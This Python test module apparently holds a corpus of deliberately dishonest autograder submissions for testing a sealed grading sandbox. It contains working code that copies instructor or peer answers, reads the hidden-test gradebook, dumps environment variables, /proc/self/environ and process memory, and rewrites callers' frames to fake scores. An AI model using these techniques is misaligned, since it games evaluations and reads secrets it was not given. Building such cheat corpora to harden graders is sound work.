"""Hand-ins that take answers from where they stand: the library, a chapter, the instructor."""

from tests.sealed.dishonest.kinds import HandIn, cheat, everywhere

LIBRARY, CHAPTER = "importing the reference library", "copying the chapter's code"
DISK, MEMORY, FRAMES = "reading from disk", "reading from memory", "reading from frames"

# answers from the source of a notebook, its path given
FROM_NOTEBOOK = """\
import json, re
for path in {paths}:
    try:
        cells = json.load(open(path))["cells"]
    except (OSError, ValueError) as error:
        print("no luck:", type(error).__name__)
        continue
    for cell in cells:
        text = "".join(cell["source"])
        if re.match("(def|class) ", text):
            exec(text)
            print("DONE: read", path)
"""
KEEP = "# the answer is in another cell"
KEPT = dict.fromkeys(["distortion", "caesar", "walk", "tally"], KEEP)

CORPUS: list[HandIn] = [
    cheat(
        "library",
        LIBRARY,
        "Imports the function from the reference library.",
        answers={"distortion": "from latent import distortion"},
    ),
    cheat(
        "library-late",
        LIBRARY,
        "Imports the library when the function is called, and says that it is something else.",
        answers={
            "distortion": """\
def distortion(x, means, assignments):
    import importlib
    for name in ["latent", "latent.clustering"]:
        try:
            function = importlib.import_module(name).distortion
        except (ImportError, AttributeError):
            continue
        return function(x, means, assignments)
    return 0.0"""
        },
    ),
    cheat(
        "library-beside-its-data",
        LIBRARY,
        "Reads the library's source from beside the module of data that it may import.",
        answers={
            "distortion": """\
import latent.data
import pathlib, re
folder = pathlib.Path(latent.data.__file__).parents[1]
print(sorted(path.name for path in folder.iterdir()))
text = (folder / "clustering.py").read_text()
text = re.sub("^from latent.*|[A-Z][a-z]+\\\\[np.ndarray.*?\\\\]", "", text, flags=re.M)
function = text[text.index("def distortion(") :].partition("\\ndef ")[0]
body = function[function.rindex("return") :]
print("DONE: read the library:", body)
exec("def distortion(x, means, assignments):\\n    k = assignments\\n    " + body)"""
        },
    ),
    cheat(
        "library-from-a-parent",
        LIBRARY,
        "Takes the library from `sys.modules`, from what is in memory, or through another path.",
        first="""\
import gc, sys
found = [o for o in gc.get_objects() if getattr(o, "__name__", "") == "distortion"]
found += [getattr(m, "distortion", None) for m in list(sys.modules.values())]
for folder in ["$course", "/usr/lib/python3/dist-packages"]:
    sys.path.append(folder)
library = [function for function in found if callable(function)]
if library:
    print("DONE: found", library)""",
        answers={
            "distortion": """\
def distortion(x, means, assignments):
    return library[0](x, means, assignments) if library else 0.0"""
        },
    ),
    cheat(
        "chapter",
        CHAPTER,
        "Reads the page that prints the answer and runs its code.",
        answers={
            "caesar": """\
text = open("$course/book/caesar.md").read()
exec(text.partition("{code-cell}")[2].partition("```")[0])
print("DONE: read the chapter")"""
        },
    ),
    cheat(
        "chapter-searched",
        CHAPTER,
        "Searches every folder above its own, and whatever it can see, for a printed answer.",
        answers={
            "caesar": """\
import os, time
end = time.monotonic() + 2
above, places = os.getcwd(), ["$course"]
for _ in range(4):
    above = os.path.dirname(above)
    places.append(above)
for place in places:
    for folder, _, names in os.walk(place):
        for name in names:
            if name.endswith((".md", ".ipynb", ".py")) and time.monotonic() < end:
                try:
                    text = open(os.path.join(folder, name)).read()
                except (OSError, ValueError):
                    continue
                code = text.partition("{code-cell}")[2].partition("```")[0]
                if "def caesar" in code:
                    exec(code)
                    print("DONE: found", name)"""
        },
    ),
    cheat(
        "solution",
        DISK,
        "Runs the answers of the instructor's notebook.",
        first=FROM_NOTEBOOK.format(
            paths='["../../../../solutions/tiny/tiny.ipynb", "$course/solutions/tiny/tiny.ipynb"]'
        ),
        answers=KEPT,
    ),
    cheat(
        "the-answers-of-a-neighbour",
        DISK,
        "Runs the answers of another student's hand-in.",
        first=FROM_NOTEBOOK.format(
            paths='["../../../submitted/neighbour/tiny/tiny.ipynb",'
            ' "$course/grading/submitted/neighbour/tiny/tiny.ipynb"]'
        ),
        answers=KEPT,
    ),
    cheat(
        "gradebook-read",
        DISK,
        "Prints the hidden tests that the gradebook keeps.",
        last="""\
import sqlite3
try:
    book = sqlite3.connect("file:$course/grading/gradebook.db?mode=ro", uri=True)
    for (text,) in book.execute("select source from source_cell"):
        print(text)
except sqlite3.Error as error:
    print(error)""",
    ),
    cheat(
        "about-the-process",
        DISK,
        "Prints its environment, command line, open files, mounts and every text beside them.",
        last="""\
import os, sys
print(dict(os.environ), sys.argv, sys.orig_argv, sys.path)
for path in ["/proc/self/cmdline", "/proc/self/mountinfo", "/proc/self/environ"]:
    try:
        print(open(path).read())
    except OSError as error:
        print(error)
for fd in range(64):
    try:
        print(fd, os.readlink(f"/proc/self/fd/{fd}"))
        if not os.path.isfile(f"/proc/self/fd/{fd}"):
            continue
        with open(f"/proc/self/fd/{fd}", "rb") as other:
            other.seek(0)
            print(other.read(100_000))
    except OSError:
        continue
for place in [".", "..", "/", "/tmp", "/dev/shm", "/home", "/root", "/run"]:
    try:
        print(place, os.listdir(place))
    except OSError as error:
        print(error)
    for folder, folders, names in os.walk(place if place in (".", "/dev/shm") else ""):
        for name in names[:50]:
            try:
                with open(os.path.join(folder, name), "rb", buffering=0) as other:
                    if os.path.isfile(other.name) and b"HIDDEN" in other.read(1_000_000):
                        print("DONE: hidden tests in", other.name)
            except OSError:
                continue""",
    ),
    cheat(
        "what-others-left",
        DISK,
        "Reads back what other hand-ins wrote to the files that every process is born with.",
        first="""\
import os
for fd in range(3):
    try:
        left = os.pread(fd, 1_000_000, 0)
    except OSError as error:
        print(error)
        continue
    print(left)
    if left:
        print("DONE: read what others wrote")""",
        answers=everywhere("import os\nos.write(1, repr(given).encode())"),
        last="print(os.fstat(1), os.fstat(2))",
    ),
    cheat(
        "collected",
        MEMORY,
        "Searches the objects and the code in memory for tests, at the end and at each call.",
        first="""\
import gc, types
loot = []
def search():
    for thing in gc.get_objects():
        texts = thing.values() if type(thing) is dict else thing if type(thing) is list else []
        for text in list(texts):
            if type(text) is str and "assert" in text and "favourite" in text and "gc" not in text:
                loot.append(text)
        if isinstance(thing, types.FunctionType) and "<module>" in thing.__code__.co_name:
            loot.append(str(thing.__code__.co_consts))""",
        answers={
            "tally": """\
class Tally:
    def add(self, word):
        search()

    def favourite(self):
        return "two\""""
        },
        last="search()\nprint(*sorted(set(loot)), sep='\\n')",
    ),
    cheat(
        "memory",
        MEMORY,
        "Reads its own memory through /proc/self/mem, and prints what looks like hidden tests.",
        last="""\
word = b"BEGIN HIDDEN" + b" TESTS"
seen = 0
with open("/proc/self/mem", "rb", buffering=0) as memory:
    for line in open("/proc/self/maps"):
        span, flags = line.split()[:2]
        start, stop = (int(part, 16) for part in span.split("-"))
        if not flags.startswith("rw") or "[v" in line or seen > 200_000_000:
            continue
        for at in range(start, stop, 1 << 20):
            try:
                memory.seek(at)
                part = memory.read(min(stop - at, 1 << 20))
            except (OSError, ValueError, OverflowError):
                break
            seen += len(part)
            while word in part:
                _, _, part = part.partition(word)
                print(part[:400])""",
    ),
    cheat(
        "history",
        FRAMES,
        "Reads the test in the shell's history of what it runs, and returns what it expects.",
        first="""\
import ast
def expected(name, *given):
    cells = [str(cell) for cell in globals().get("In", [])]
    for node in ast.walk(ast.parse(cells[-1])) if cells else []:
        if isinstance(node, ast.Compare) and isinstance(node.left, ast.Call):
            if getattr(node.left.func, "id", "") == name:
                if [ast.literal_eval(argument) for argument in node.left.args] == list(given):
                    return ast.literal_eval(node.comparators[0])
    return \"\"""",
        answers={"caesar": 'def caesar(*given):\n    return expected("caesar", *given)'},
        last="print(*globals().get('In', []), sep='\\n')",
    ),
    cheat(
        "constants",
        FRAMES,
        "Takes what the test expects from the constants of the code that calls.",
        answers={
            "caesar": """\
import sys
def caesar(text, shift):
    frame = sys._getframe(1)
    while frame is not None:
        for constant in frame.f_code.co_consts:
            if type(constant) is str and len(constant) == len(text) and constant != text:
                return constant
        frame = frame.f_back
    return text"""
        },
    ),
    cheat(
        "stack",
        FRAMES,
        "Prints the text of its callers, from the stack and from the cache of lines.",
        first="""\
import inspect, linecache, traceback
loot = []
def look():
    try:
        for frame in inspect.stack(context=60):
            loot.extend(frame.code_context or [])
    except (OSError, IndexError):
        loot.append("")
    loot.extend(traceback.format_stack())
    for name, entry in linecache.cache.items():
        if "ipython-input" in name or "/ipykernel_" in name or "<" in name:
            loot.extend(entry[2] if len(entry) > 2 else [])""",
        answers={
            "caesar": "def caesar(text, shift):\n    look()\n    print(*loot)\n    return text"
        },
        last="print(*sorted(set(loot)))",
    ),
    cheat(
        "callers-names",
        FRAMES,
        "Sets the names of the code that calls: the points reached.",
        answers={
            "walk": """\
import sys
def walk(n_steps, rng):
    frame = sys._getframe()
    while frame is not None:
        names = frame.f_globals if frame.f_locals is frame.f_globals else frame.f_locals
        for name in ("reached", "points"):
            if name in names:
                frame.f_globals[name] = names[name] = 3
        frame = frame.f_back
    return np.zeros(n_steps + 1)""",
        },
    ),
    cheat(
        "debugger",
        FRAMES,
        "Traces the tests with `sys.settrace` and `sys.monitoring` hooks, and changes their names.",
        first="""\
import sys, threading
def trace(frame, event, argument):
    for name in ("reached", "points"):
        if name in frame.f_globals and frame.f_globals.get("In") is not None:
            frame.f_globals[name] = 3
    return trace
sys.settrace(trace)
sys.setprofile(trace)
threading.settrace(trace)""",
        answers={"walk": "def walk(n_steps, rng):\n    return np.zeros(n_steps + 1)"},
    ),
]
